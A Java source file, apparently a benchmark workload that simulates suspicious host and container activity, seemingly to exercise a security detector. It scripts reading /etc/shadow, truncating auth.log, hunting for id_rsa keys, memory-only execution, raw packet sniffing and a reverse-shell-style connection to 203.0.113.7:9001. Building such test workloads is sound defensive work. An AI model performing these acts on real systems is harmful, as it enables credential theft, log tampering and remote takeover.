package dev.saker.bench.workload;

import java.util.List;

/** All suspicious acts, in the order in which they happen. */
final class Acts {
  private static final int UPPER_LAYER = 2;
  private static final int FROM_MEMORY = 4;
  private static final int TERMINAL = 34_817;
  private static final int ALL_PROTOCOLS = 768;
  private static final String HOME = "/home/alice/";

  static final List<Act> ALL =
      List.of(
          Act.onHost(Image.of("/usr/bin/cat", HOME, "/etc/shadow"), Acts::readPasswords),
          Act.onHost(Image.of("/usr/bin/tee", HOME, "/var/log/auth.log"), Acts::clearLog),
          Act.onHost(Image.of("/usr/bin/ln", "/tmp/", "-s", "/etc/shadow", "/tmp/s"), Acts::link),
          Act.onHost(Image.of("/usr/bin/find", HOME, "/home", "-name", "id_rsa"), Acts::nothing),
          Act.onHost(Image.daemon("/dev/shm/.x", "-q"), Acts::nothing),
          Act.onHost(Image.of("/memfd:payload", HOME), Acts::nothing).withExecFlags(FROM_MEMORY),
          Act.inContainer(Image.of("/tmp/kit", "/tmp/"), Acts::nothing).withExecFlags(UPPER_LAYER),
          Act.inContainer(Image.of("/bin/bash", "/"), Acts::nothing).withTerminal(TERMINAL),
          Act.inContainer(Image.of("/usr/bin/sniff", "/"), Acts::sniff),
          Act.inContainer(Image.of("/usr/bin/perl", "/", "-e", "connect"), Acts::callHome));

  private Acts() {}

  private static void nothing(Task task, Lane lane) {}

  private static void readPasswords(Task task, Lane lane) {
    lane.files.readWhole(Texts.text("/etc/shadow"), 1);
  }

  private static void clearLog(Task task, Lane lane) {
    int fd = lane.files.open(Texts.text("/var/log/auth.log"), FileCalls.REWRITE);
    lane.files.close(fd);
  }

  private static void link(Task task, Lane lane) {
    lane.files.symlink(Texts.text("/etc/shadow"), Texts.text("/tmp/s"));
  }

  private static void sniff(Task task, Lane lane) {
    int fd = lane.sockets.socket(SocketCalls.PACKET, SocketCalls.RAW, ALL_PROTOCOLS);
    lane.files.close(fd);
  }

  private static void callHome(Task task, Lane lane) {
    Peers home = new Peers(Peers.own(task), 41_234, Peers.address(203, 0, 113, 7), 9001);
    int fd = lane.sockets.socket(SocketCalls.INTERNET, SocketCalls.STREAM, 6);
    lane.sockets.connect(fd, home, true);
    lane.files.duplicate(fd, 0);
    lane.files.close(fd);
  }
}
